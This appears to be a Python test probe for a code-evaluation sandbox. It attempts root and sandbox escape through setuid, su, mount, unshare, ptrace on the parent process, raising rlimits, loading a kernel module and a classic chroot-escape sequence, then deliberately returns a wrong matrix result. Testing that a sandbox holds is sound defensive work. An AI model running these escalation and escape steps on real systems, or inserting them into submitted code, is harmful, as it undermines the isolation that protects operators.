# attack: try to become root or leave the sandbox: setuid(0), a setuid binary, mount, unshare, chroot escape, ptrace, raising rlimits, kernel keyring, loading a module
# expect: fails batched_matvec
import ctypes
import ctypes.util
import os
import resource
import subprocess

import torch

libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
_got = {}


def _step(name, fn):
    try:
        ok = fn()
    except Exception as e:  # noqa: BLE001 - any failure is the expected outcome
        _got[name] = type(e).__name__
        return
    _got[name] = ok
    if ok is True:
        print("ATTACK-BREACH", name, flush=True)


_step("setuid(0)", lambda: os.setuid(0) or os.getuid() == 0)
_step("setgid(0)", lambda: os.setgid(0) or os.getgid() == 0)
_step("sudo/su", lambda: subprocess.run(["su", "-c", "id -u"], capture_output=True, timeout=5,
                                        stdin=subprocess.DEVNULL).stdout.strip() == b"0")
_step("mount tmpfs", lambda: libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0)
_step("unshare user+mount", lambda: libc.unshare(0x10000000 | 0x00020000) == 0 and os.getuid() == 0)
_step("ptrace parent", lambda: libc.ptrace(16, os.getppid(), None, None) == 0)  # PTRACE_ATTACH


def _raise_hard(which):
    soft, hard = resource.getrlimit(which)
    if hard == resource.RLIM_INFINITY:
        return "no limit set"
    resource.setrlimit(which, (hard + 1, hard + 1))
    return resource.getrlimit(which)[1] > hard


_step("raise RLIMIT_NPROC", lambda: _raise_hard(resource.RLIMIT_NPROC))
_step("raise RLIMIT_NOFILE", lambda: _raise_hard(resource.RLIMIT_NOFILE))
_step("raise RLIMIT_AS", lambda: _raise_hard(resource.RLIMIT_AS))
_step("init_module", lambda: libc.syscall(175, None, 0, b"") == 0)


def _chroot_escape():
    os.makedirs("ag-attack-jail", exist_ok=True)
    if libc.chroot(b"ag-attack-jail") != 0:
        return False
    for _ in range(64):
        os.chdir("..")
    return libc.chroot(b".") == 0 and os.path.exists("/proc/1/root")


_step("chroot escape", _chroot_escape)
print("escalation:", _got)


def batched_matvec(A, v):
    return torch.zeros(A.shape[0], A.shape[1], dtype=A.dtype)
